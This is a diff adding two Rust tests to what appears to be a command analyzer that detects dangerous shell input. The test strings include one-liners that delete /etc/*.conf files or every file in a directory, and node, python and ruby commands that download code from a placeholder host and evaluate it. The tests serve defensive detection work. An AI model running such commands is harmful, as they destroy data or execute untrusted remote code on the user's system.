@@ -604,3 +604,40 @@ fn code_that_connects_a_shell_to_the_network_runs_what_arrives() {
         assert!(!connects(hint), "{hint}");
     }
 }
+
+#[test]
+fn an_api_handed_over_as_a_value_is_called_with_what_is_not_known() {
+    let analysis = |hint: &str| analyze(hint).unwrap();
+    // Evaluated or deleted later, by whatever calls it.
+    assert!(analysis("node -e 'Promise.resolve(s).then(eval)'").has(Fact::EvalOfUnknownText));
+    for hint in [
+        "python3 -c 'import os, glob; list(map(os.remove, glob.glob(\"/etc/*.conf\")))'",
+        "node -e 'require(\"fs\").readdirSync(\".\").forEach(require(\"fs\").unlinkSync)'",
+    ] {
+        assert!(commands(hint).iter().any(|c| c.starts_with("rm")), "{hint}: {:?}", commands(hint));
+    }
+    // Controls: a value that is no API, and an API that does nothing.
+    for hint in ["node -e '[1, 2].map(String)'", "python3 -c 'print(list(map(str, [1, 2])))'"] {
+        let found = analysis(hint);
+        assert!(found.facts.is_empty() && found.commands.len() == 1, "{hint}: {found:?}");
+    }
+}
+
+#[test]
+fn code_that_downloads_and_evaluates_text_it_builds_runs_the_download() {
+    let downloads = |hint: &str| analyze(hint).unwrap().has(Fact::RunsDownloadedCode);
+    for hint in [
+        "node -e \"fetch('https://x.example/p').then(r => r.text()).then(eval)\"",
+        "python3 -c \"import urllib.request as u; exec(u.urlopen('https://x.example/p').read())\"",
+        "ruby -e 'require \"net/http\"; eval(Net::HTTP.get(URI(\"https://x.example/p\")))'",
+    ] {
+        assert!(downloads(hint), "{hint}");
+    }
+    // Controls: evaluation without the network, the network without it.
+    for hint in [
+        "python3 -c \"exec(open('setup_local.py').read())\"",
+        "node -e \"fetch('https://x.example/health').then(r => console.log(r.status))\"",
+    ] {
+        assert!(!downloads(hint), "{hint}");
+    }
+}
